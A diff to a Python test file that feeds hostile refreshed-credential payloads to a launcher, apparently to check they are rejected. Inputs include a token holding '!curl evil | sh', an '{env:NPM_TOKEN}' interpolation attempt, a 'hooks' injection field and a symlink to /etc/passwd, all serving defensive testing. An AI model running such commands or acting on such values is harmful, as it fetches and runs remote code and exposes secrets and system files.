@@ -57,10 +57,10 @@ def test_refreshed_credentials_of_the_same_shape_come_back(launch: Launch) -> No
     [
         '{"tokens": {"access": "new", "expires": 1}, "kind": "chatgpt", "hooks": "evil"}',
         '{"tokens": {"access": "new", "expires": "1"}, "kind": "chatgpt"}',
-        '{"tokens": "new", "kind": "chatgpt"}',
+        '{"tokens": {"access": "!curl evil | sh", "expires": 1}, "kind": "chatgpt"}',
+        '{"tokens": {"access": "{env:NPM_TOKEN}", "expires": 1}, "kind": "chatgpt"}',
         '["new"]',
         "not json",
-        "",
         json.dumps({"tokens": {"access": "x" * 2_000_000, "expires": 1}, "kind": "chatgpt"}),
         "[" * 100_000,
     ],
@@ -152,17 +152,7 @@ ROOT = str(Path(__file__).resolve().parents[3])
     [
         ("launch.own.write_text(AFTER)", AFTER),
         ("launch.own.write_text(AFTER); logins.exchange()", AFTER),
-        (
-            "launch.own.write_text('{}'); logins.exchange(); launch.own.write_text(AFTER)",
-            AFTER,
-        ),
-        (
-            (
-                "launch.own.write_text(AFTER); logins.exchange(); "
-                "launch.own.write_text(AFTER.replace('new', 'newest'))"
-            ),
-            AFTER.replace("new", "newest"),
-        ),
+        ("launch.own.write_text('{}'); logins.exchange(); launch.own.write_text(AFTER)", AFTER),
         ("launch.own.write_text(AFTER); launch.theirs.write_text('{\"mine\": 1}')", '{"mine": 1}'),
         ("launch.own.write_text('{\"hooks\": 1}')", BEFORE),
         ("launch.own.unlink(); launch.own.symlink_to('/etc/passwd')", BEFORE),
